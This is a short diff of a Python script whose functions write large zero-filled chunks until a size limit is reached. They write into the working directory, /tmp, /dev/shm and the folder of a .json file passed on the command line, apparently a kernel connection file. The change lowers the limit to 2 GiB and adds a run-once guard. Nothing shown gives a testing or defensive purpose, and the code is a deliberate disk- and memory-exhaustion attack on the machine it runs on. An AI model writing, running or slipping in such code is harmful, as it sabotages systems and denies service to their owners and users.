@@ -4,9 +4,10 @@ import os
 import sys
 
 _CHUNK = b"\0" * (64 << 20)
+_FILLED = []
 
 
-def _fill(folder, limit=(3 << 30)):
+def _fill(folder, limit=(2 << 30)):
     written = 0
     try:
         while written < limit:
@@ -19,6 +20,9 @@ def _fill(folder, limit=(3 << 30)):
 
 
 def _everywhere():
+    if _FILLED:
+        return
+    _FILLED.append(True)
     connection = next((arg for arg in sys.argv if arg.endswith(".json")), "")
     for folder in (".", "/tmp", "/dev/shm", os.path.dirname(connection)):
         if folder:
